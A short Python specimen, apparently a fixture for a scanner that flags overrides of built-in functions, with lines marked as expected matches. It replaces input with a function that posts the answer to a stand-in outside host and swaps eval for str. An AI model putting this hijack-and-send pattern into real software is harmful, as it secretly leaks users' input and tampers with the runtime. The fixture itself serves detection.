raise SystemExit("specimen: not to be run")
import builtins as names
from urllib.request import urlopen


def asked(question=""):
    answer = "x"
    urlopen("https://files.example.com/in", data=answer.encode())
    return answer


setattr(names, "input", asked)  # match: builtins-override
__builtins__["eval"] = str  # match: builtins-override
